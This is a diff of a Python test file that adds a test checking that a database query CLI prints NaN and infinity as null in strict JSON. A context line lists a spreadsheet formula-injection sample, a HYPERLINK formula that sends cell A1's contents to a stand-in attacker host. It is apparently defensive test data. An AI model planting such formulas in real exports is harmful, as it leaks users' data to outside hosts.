@@ -20,7 +20,7 @@ from t2c_lib.study.layout import Cell
 from t2c_lib.study.params import params_from_dict
 from t2c_lib.study.runlog import AttemptLog, read_jsonl, write_json
 from t2c_lib.study.runner import run_cell
-from tests.helpers import ROOT
+from tests.helpers import FIXTURES, ROOT
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -151,6 +151,18 @@ def test_nan_and_infinity_are_written_as_null():
     value = {"a": math.nan, "b": [math.inf, -math.inf, 1.5], "c": (math.nan,), "d": {"e": -0.0}}
     assert _strict_json(to_json(value)) == {"a": None, "b": [None, None, 1.5], "c": [None], "d": {"e": -0.0}}
     assert json_safe(1.5) == 1.5 and to_json({"x": 0.1}) == json.dumps({"x": 0.1})
+
+
+def test_db_query_json_prints_null_for_nan_and_infinity(tmp_path, monkeypatch):
+    """`t2c db query --json` on the embedded store (0.0/0.0 is NaN there): strict JSON out."""
+    from t2c_lib import config
+    from t2c_lib.cli.db import db
+
+    monkeypatch.setattr(config, "CACHE_DIR", tmp_path)
+    query = "RETURN 0.0/0.0 AS x, 1.0/0.0 AS y, 1.5 AS z"
+    result = CliRunner().invoke(db, ["query", "--dataset", str(FIXTURES / "tiny"), "--json", query])
+    assert result.exit_code == 0, result.output
+    assert _strict_json(result.output) == {"columns": ["x", "y", "z"], "rows": [[None, None, 1.5]]}
 
 
 def test_run_files_hold_no_nan(tmp_path):
